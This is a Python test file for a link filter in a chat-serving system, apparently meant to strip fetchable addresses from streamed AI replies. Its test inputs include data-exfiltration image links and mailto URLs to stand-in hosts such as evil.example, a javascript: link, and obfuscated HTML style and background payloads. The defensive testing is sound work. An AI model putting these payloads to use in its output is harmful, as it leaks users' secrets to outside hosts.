"""No address leaves in a form that a client fetches or shows as a link, however the reply is cut into pieces."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from cleo_serving.chat.links import REMOVED, LinkFilter

pytestmark = pytest.mark.unit

# What a Markdown client turns into a request or a link.
LIVE = re.compile(
    r"\]\(|\]:|\]\[|https?://|ftp://|www\.|</?(a|img|iframe|script|link|video|audio|svg|object|form)\b"
    r"|<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*>",
    re.IGNORECASE,
)


def filtered(text: str, *hosts: str, step: int | None = None) -> str:
    links = LinkFilter(hosts)
    pieces = [text] if step is None else [text[at : at + step] for at in range(0, len(text), step)]
    return "".join(links.feed(piece) for piece in pieces) + links.feed("", last=True)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.example/?q=secret)", "x"),
        ("See [here](https://evil.example/a) now.", "See here now."),
        ("[![x](http://a.example/i.png)](http://b.example)", "x"),
        ("[here](//evil.example/x)", "here"),
        ("[here](javascript:alert(1))", "here"),
        ("go to https://evil.example/?q=secret now", f"go to {REMOVED} now"),
        ("go to www.evil.example/x", f"go to {REMOVED}"),
        ('<img src="https://evil.example/x">', ""),
        ("<IMG SRC=//evil.example>", ""),
        ("<https://evil.example>", ""),
        ("<data:text/html,x>", ""),
        ("[a]: https://evil.example/x\n[a]", "\n[a]"),
        ("f[0](x) and a[1]: b", "f[0] (x) and a[1] : b"),
        ("x[1]: b.c stays\nhere", "x[1] : b.c stays\nhere"),
        ("if a < b and c > d", "if a < b and c > d"),
        ("List<String> and std::vector<int>", "List<String> and std::vector<int>"),
        ("Plain text! With [brackets] (and more).", "Plain text! With [brackets] (and more)."),
        ("a list:\n1. one\n2. two", "a list:\n1. one\n2. two"),
        ("[multi\nline](https://evil.example)", "multi\nline"),
        ("see evil.com/?d=secret now", f"see {REMOVED} now"),
        ("(see evil.zip/secret).", f"(see {REMOVED})."),
        ("at secret.evil.com, or evil.com:8000", f"at {REMOVED}, or {REMOVED}"),
        ("Visit evil.com. Or ..evil.com/x, evil.com./x", f"Visit {REMOVED}. Or ..{REMOVED}, {REMOVED}"),
        ("look:evil.xn--p1ai/x and ada@evil.dev/?q=1", f"look:{REMOVED} and ada@{REMOVED}"),
        ("//evil.com/x and //10.0.0.1/x and 10.0.0.1/x?d", f"{REMOVED} and {REMOVED} and {REMOVED}"),
        ("mailto:eve@evil.com?body=secret", REMOVED),
        ("vscode://x/secret or http:/evil.com", f"{REMOVED} or {REMOVED}"),
        ("https&#58;//evil.com/a evil&period;com/a", f"{REMOVED} {REMOVED}"),
        ("https\\://evil.com/a evil\\.com/a evil%2Ecom/a", f"{REMOVED} {REMOVED} {REMOVED}"),
        ("e\u200bvil.com/a \uff45vil\uff0ecom/a", f"{REMOVED} {REMOVED}"),
        ("größe.de/?d=x", REMOVED),
        ("пример.рф/x", REMOVED),
    ],
)
def test_links_go_and_text_stays(text: str, expected: str) -> None:
    assert filtered(text) == expected
    for step in (1, 2, 3, 7):
        assert filtered(text, step=step) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Open README.md, then main.py:12, or run setup.sh.",
        "os.path.join, user.id, self.model.name, df.at and datetime.datetime.now()",
        "a//b is 7 // 2; the net is 10.0.0.0/8; 24.12./25.12. at 3.30/3.45",
        "My address is ada@example.com, e.g. i.e. and/or U.S./U.K. foo.bar?",
        "One ends here.The next begins. Node.js and asp.net/C, v1.2/x",
        "请看文件。然后继续",
    ],
)
def test_names_in_code_and_plain_words_stay(text: str) -> None:
    shown = filtered(text)
    for step in (1, 2, 5):
        assert filtered(text, step=step) == shown
    assert shown == text or (text.startswith("One ends") and shown.replace(REMOVED, "asp.net/C") == text)


def test_a_host_on_the_list_is_kept_and_its_look_alikes_are_not() -> None:
    assert filtered("[docs](https://docs.example/a) https://docs.example/b", "docs.example") == (
        "docs (https://docs.example/a) https://docs.example/b"
    )
    for address in (
        "https://docs.example.evil.example/",
        "https://docs.example@evil.example/",
        "http://docs.example/",
        "https://evil.example/docs.example",
        "https://evil.example#docs.example",
    ):
        assert "evil" not in filtered(f"[x]({address}) {address}", "docs.example") or not LIVE.search(
            filtered(f"[x]({address}) {address}", "docs.example")
        )
    assert filtered("![x](https://docs.example/?q=secret)", "docs.example") == "x"


def test_ordinary_text_is_not_held_back() -> None:
    links = LinkFilter()
    assert links.feed("A sentence. ") == "A sentence. "
    assert links.feed("And another, with a < b. ") == "And another, with a < b. "


def test_what_only_looks_like_a_link_is_let_go_in_the_end() -> None:
    links = LinkFilter()
    text = "[" + "x" * 5000
    assert len(links.feed(text)) > 2000
    assert filtered(text) == text


FETCHING = re.compile(r"style|background|src\w*|\w*href")


class Fetches(HTMLParser):
    """What a lenient reader of HTML would fetch."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # `<b title=evil.x>` fetches nothing: without an address in the value it is the attribute's name that counts.
        self.found += [
            f"{tag} {name}"
            for name, value in attrs
            if re.search(r"//|url\(", value or "") or ("evil" in (value or "") and FETCHING.fullmatch(name))
        ]


HOSTILE = [
    '<div style="background:url(//evil.example/x)">',
    "<table background=//evil.example/x>",
    '<picture srcset="//evil.example/x">',
    '<p title=">" style="background:url(//evil.example/x)">',
    "<p title = '>' style=background:url(//evil.example)>",
    '<p a"b=">" style="background:url(//evil.example)">',
    "<p style='background:u\\72l(/\\evil.example)'>",
    "<table background=&#47;&#47;evil.example>",
    "<table background=https:evil.example>",
    "<x;y style=background:url(//evil.example)>",
    "<di<b style=//x>v style=background:url(//evil.example)>",
    "<p\nstyle\n=\n'background:url(//evil.example)'>",
    '<p title="' + "x" * 3000 + '" style="background:url(//evil.example/x)">',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_tag_of_any_name_carries_an_address(text: str) -> None:
    assert Fetches(text).found or "<di<b" in text
    for step in (1, 2, 5, 40, len(text)):
        shown = filtered(f"before {text} after", step=step)
        assert not Fetches(shown).found, shown
        assert shown.startswith("before ")
    # Cut off where a client might close the tag by itself.
    assert not Fetches(filtered(text[:-1]) + ">").found


def test_tags_and_code_without_an_address_stay() -> None:
    for text in ("<b>bold</b>", '<div class="x">', "a <b and c> d", "for (i = 0; i < n; i++) { // all\n p->q; }"):
        for step in (1, 3, len(text)):
            assert filtered(text, step=step) == text
    assert filtered("for (i=0;i<n;i++) { // all\n p->q; }", step=2) == "for (i=0;i< n;i++) { // all\n p->q; }"


HTML = ["<", ">", "/", "//", "div ", "p", " ", "=", '"', "'", "style=", "url(", "evil.x", "b", "&", ";", "\n", "<b "]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(HTML), max_size=25), st.integers(1, 9))
def test_no_mixture_of_tags_and_quotes_fetches(parts: list[str], step: int) -> None:
    shown = filtered("".join(parts), step=step)
    assert not Fetches(shown).found, shown


PARTS = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    ":",
    "/",
    "http",
    "https://e.x/",
    "www.",
    "img ",
    "a",
    " ",
    "\n",
    "ftp://",
    "://",
]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=25), st.integers(1, 9))
@example(["[", "[", "]", "http", "<", "a", "www."], 7)
@example(["[", "a", "[", "a", "]", "]", "(", "/", "/", "e.x)"], 1)
def test_no_mixture_of_marks_gives_a_live_link(parts: list[str], step: int) -> None:
    shown = filtered("".join(parts), step=step)
    assert not LIVE.search(shown), shown
